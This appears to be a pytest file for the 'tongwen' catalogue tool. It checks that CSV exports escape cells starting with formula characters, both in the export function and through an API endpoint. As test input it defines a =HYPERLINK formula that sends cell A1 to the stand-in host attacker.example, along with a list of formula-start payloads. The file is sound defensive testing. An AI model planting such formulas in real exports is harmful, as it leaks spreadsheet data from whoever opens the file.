"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): hostile cells become text."""

from __future__ import annotations

import csv
import io

from tongwen.config import Settings
from tongwen.export import export_chunks
from tongwen.model import Agent, Form, Record, Subject, Title
from tongwen.store import Store
from tongwen.web.app import create_app

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full text")'


def exported_rows(records: list[Record]) -> list[dict[str, str]]:
    text = "".join(export_chunks("csv", records))
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_hyperlink_formula_as_creator_is_written_as_text():
    record = Record("hostile", "csv1", titles=[Title([Form("紅樓夢", "Hant", "chi")])],
                    agents=[Agent([Form(HYPERLINK, "Latn")])], languages=["chi"])
    [row] = exported_rows([record])
    assert row["creators"] == "'" + HYPERLINK  # the whole value kept, behind the apostrophe
    assert row["title"] == "紅樓夢"


def test_every_formula_start_is_escaped_and_ordinary_cells_are_not():
    starts = {"=1+1": "'=1+1", "+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(A1:A9)": "'@SUM(A1:A9)",
              "\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1"}
    for hostile, expected in starts.items():
        record = Record("hostile", "x", titles=[Title([Form(hostile + " title", "Latn")])],
                        subjects=[Subject(hostile)], notes=[hostile])
        [row] = exported_rows([record])
        assert (row["subjects"], row["notes"]) == (expected, expected), repr(hostile)
        assert row["title"] == "'" + hostile.strip() + " title"  # titles are trimmed, then escaped
    plain = Record("ndl", "1", titles=[Title([Form("Genji monogatari - a study", "Latn")])], year_from=-200,
                   notes=["Price: 1,000 yen = 10 dollars"])
    [row] = exported_rows([plain])
    assert row["title"] == "Genji monogatari - a study"
    assert row["year_from"] == "-200"  # a plain number stays a number
    assert row["notes"] == "Price: 1,000 yen = 10 dollars"


def test_the_api_export_of_one_record_escapes_formulas(tmp_path):
    from fastapi.testclient import TestClient

    settings = Settings(data_dir=tmp_path).ensure()
    with Store.open(settings.database) as store:
        store.upsert(Record("hostile", "csv-api", titles=[Title([Form("Formula test", "Latn", "eng")])],
                            agents=[Agent([Form(HYPERLINK, "Latn")])]))
    with TestClient(create_app(settings)) as client:
        response = client.get("/api/export/records/hostile:csv-api", params={"format": "csv"})
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text.removeprefix("\ufeff"))))
    assert row["creators"].startswith("'=HYPERLINK(")
